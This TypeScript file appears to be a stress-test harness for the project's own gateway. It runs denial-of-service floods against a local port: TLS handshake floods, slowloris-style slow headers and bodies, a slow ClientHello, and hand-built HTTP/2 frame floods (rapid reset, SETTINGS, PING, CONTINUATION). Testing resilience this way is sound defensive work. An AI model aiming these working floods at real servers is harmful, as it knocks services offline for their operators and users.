/**
 * A process that floods a gateway in one manner, over and over, until its input ends; a line when it has begun, one when as many connections as there may be at
 * a time were, and one that says how much it did.
 */
import { connect as connectTcp, type Socket } from 'node:net';
import { setPriority } from 'node:os';
import { connect as connectTls } from 'node:tls';

export const manners = [
  'handshakes',
  'strangers-handshakes',
  'slow-hellos',
  'slow-headers',
  'slow-bodies',
  'endless-answers',
  'rapid-reset',
  'settings',
  'pings',
  'continuations',
  'endless-streams',
] as const;

export type Manner = (typeof manners)[number];

export interface FloodOrder {
  readonly manner: Manner;
  readonly port: number;
  readonly host: string;
  /** Of somebody who is let in, and of somebody whom nobody knows. */
  readonly known: { readonly cert: string; readonly key: string };
  readonly stranger: { readonly cert: string; readonly key: string };
  /** Connections at a time. */
  readonly count: number;
  /** Connections that begin in a second, at the most; default as many as it can. */
  readonly perSecond?: number;
}

const [headers, resetStream, settings, ping, continuation] = [1, 3, 4, 6, 9];

function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

const many = (count: number, make: (at: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, at) => make(at)));

const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(settings, 0, 0)]);
const octets = (text: string): Buffer => Buffer.concat([Buffer.of(text.length), Buffer.from(text)]);

/** GET of a path at a host, nothing of it indexed but its method and scheme (RFC 7541, A). */
function get(host: string, path: string): Buffer {
  return Buffer.concat([Buffer.of(0x82, 0x87, 0x04), octets(path), Buffer.of(0x01), octets(host)]);
}

const [endStream, endHeaders] = [1, 4];
const request = (stream: number, block: Buffer): Buffer => frame(headers, endStream | endHeaders, stream, block);

function burstOf({ manner, host }: FloodOrder): Buffer {
  const block = get(host, '/');
  switch (manner) {
    case 'rapid-reset':
      return many(2_000, (at) =>
        Buffer.concat([request(2 * at + 1, block), frame(resetStream, 0, 2 * at + 1, Buffer.of(0, 0, 0, 8))]),
      );
    case 'settings':
      return many(5_000, () => frame(settings, 0, 0, Buffer.of(0, 4, 0, 0, 0xff, 0xff)));
    case 'pings':
      return many(5_000, () => frame(ping, 0, 0, Buffer.alloc(8)));
    case 'continuations':
      return Buffer.concat([frame(headers, endStream, 1, block), many(5_000, () => frame(continuation, 0, 1))]);
    default:
      return many(1_000, (at) => request(2 * at + 1, get(host, '/stream')));
  }
}

/** Not that of the others: one address bears what it did itself. */
const localAddress = process.platform === 'linux' ? '127.0.0.2' : '127.0.0.1';

/** Resolves when a connection of this flood has had its end. */
type Attack = (order: FloodOrder, begun: () => void) => Promise<void>;

const over = (socket: Socket): Promise<void> =>
  new Promise((resolve) => socket.on('error', () => undefined).once('close', () => resolve()));

function opened({ port, host, known }: FloodOrder, protocol: string, shown: FloodOrder['known'] = known): Socket {
  return connectTls({
    ...{
      host: '127.0.0.1',
      port,
      servername: host,
      rejectUnauthorized: false,
      ALPNProtocols: [protocol],
      localAddress,
    },
    ...shown,
  });
}

function dripping(socket: Socket, octetsOf: (at: number) => Buffer): void {
  let at = 0;
  const drip = setInterval(() => socket.write(octetsOf(at++)), 200);
  socket.once('close', () => clearInterval(drip));
}

const shaking =
  (by: 'known' | 'stranger'): Attack =>
  (order, begun) => {
    const socket = opened(order, 'http/1.1', order[by]).resume();
    socket.once('secureConnect', () => {
      begun();
      // Not `destroy`: unread session tickets make that a reset, which overtakes the end of the handshake.
      if (by === 'known') socket.end();
    });
    return over(socket);
  };

const slowly =
  (start: (order: FloodOrder) => string, next: string): Attack =>
  (order, begun) => {
    const socket = opened(order, 'http/1.1').resume();
    socket.once('secureConnect', () => {
      begun();
      socket.write(start(order));
      dripping(socket, () => Buffer.from(next));
    });
    return over(socket);
  };

const inFrames: Attack = (order, begun) => {
  const socket = opened(order, 'h2').resume();
  socket.once('secureConnect', () => {
    begun();
    socket.write(preface);
    socket.write(burstOf(order));
  });
  return over(socket);
};

const attacks: Readonly<Record<Manner, Attack>> = {
  handshakes: shaking('known'),
  'strangers-handshakes': shaking('stranger'),
  'slow-hellos': ({ port }, begun) => {
    const socket = connectTcp({ host: '127.0.0.1', port, localAddress }, () => {
      begun();
      // A record of a ClientHello that is said to be of 16 KiB.
      dripping(socket, (at) => (at === 0 ? Buffer.from('160301400001003ffc0303', 'hex') : Buffer.of(7)));
    });
    return over(socket.resume());
  },
  'slow-headers': slowly(({ host }) => `GET / HTTP/1.1\r\nhost: ${host}\r\nx-a: `, 'a'),
  'slow-bodies': slowly(({ host }) => `POST / HTTP/1.1\r\nhost: ${host}\r\ncontent-length: 900\r\n\r\n`, 'b'),
  'endless-answers': slowly(({ host }) => `GET /stream HTTP/1.1\r\nhost: ${host}\r\n\r\n`, ''),
  'rapid-reset': inFrames,
  settings: inFrames,
  pings: inFrames,
  continuations: inFrames,
  'endless-streams': inFrames,
};

/** Resolves for whoever waits at so many a second; what the process was too late for is not made up for. */
function paceOf({ perSecond }: FloodOrder): () => Promise<void> {
  // Who is turned away at once would else come as fast as the kernel can.
  if (perSecond === undefined) return () => new Promise((resolve) => setTimeout(resolve, 20));
  let next = performance.now();
  return () => {
    const now = performance.now();
    next = Math.max(now - 20, next + 1_000 / perSecond);
    return new Promise((resolve) => setTimeout(resolve, Math.max(0, next - now)));
  };
}

if (import.meta.main) {
  const order = JSON.parse(process.argv[2] ?? '') as FloodOrder;
  // In the world it has a machine of its own; here it takes what the others leave.
  setPriority(19);
  let [began, ended, going] = [0, 0, true];
  process.stdin.on('end', () => {
    going = false;
    process.stdout.write(`${JSON.stringify({ began, ended })}\n`, () => process.exit(0));
  });
  process.stdin.resume();
  const begun = (): void => {
    began += 1;
    if (began === 1) process.stdout.write('begun\n');
    if (began === order.count) process.stdout.write('full\n');
  };
  const pace = paceOf(order);
  const floods = Array.from({ length: order.count }, async () => {
    if (order.perSecond !== undefined) await pace();
    while (going) {
      await attacks[order.manner](order, begun);
      ended += 1;
      await pace();
    }
  });
  await Promise.all(floods);
}
